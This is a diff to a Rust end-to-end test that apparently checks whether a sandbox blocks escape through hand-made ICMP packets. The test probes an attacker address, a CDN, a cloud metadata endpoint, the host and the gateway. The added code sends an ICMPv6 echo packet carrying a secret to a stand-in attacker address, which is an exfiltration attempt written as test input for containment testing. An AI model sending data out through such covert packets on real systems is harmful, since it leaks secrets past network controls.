@@ -1,7 +1,7 @@
 //! Attempts below TCP and beside it: packets made by hand, other protocols, other links.
 
 use super::everywhere;
-use k8e_e2e::internet::{ATTACKER, CDN, HOST, METADATA, RESOLVER};
+use k8e_e2e::internet::{ATTACKER, ATTACKER_V6, CDN, HOST, METADATA, RESOLVER};
 use serde_json::json;
 
 /// For packets made by hand.
@@ -76,12 +76,15 @@ fn somebody_elses_address() {
 #[test]
 fn icmp() {
     everywhere("good.example", |inside| {
+        // By hand, and by the kernel's own ping.
         inside.tries(&format!(
             "{CRAFT}\n\
              for a in '{ATTACKER}', '{CDN}', '{METADATA}', '{HOST}', GATEWAY:\n    \
-             for family, protocol in (socket.AF_INET, 1), (socket.AF_INET6, 58):\n        \
+             for kind in socket.SOCK_RAW, socket.SOCK_DGRAM:\n        \
              tried(a)\n        \
-             try:\n            s = socket.socket(family, socket.SOCK_DGRAM, protocol); s.settimeout(0.3); s.sendto(echo(), (a, 0)); print(s.recv(100))\n        \
+             try:\n            s = socket.socket(socket.AF_INET, kind, 1); s.settimeout(0.3); s.sendto(echo(), (a, 0)); print(s.recv(100))\n        \
+             except OSError: pass\n\
+             try:\n    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); s.sendto(b'\\x80\\0\\0\\0\\0\\0\\0\\0' + SECRET, ('{ATTACKER_V6}', 0))\n\
              except OSError: pass"
         ));
     });
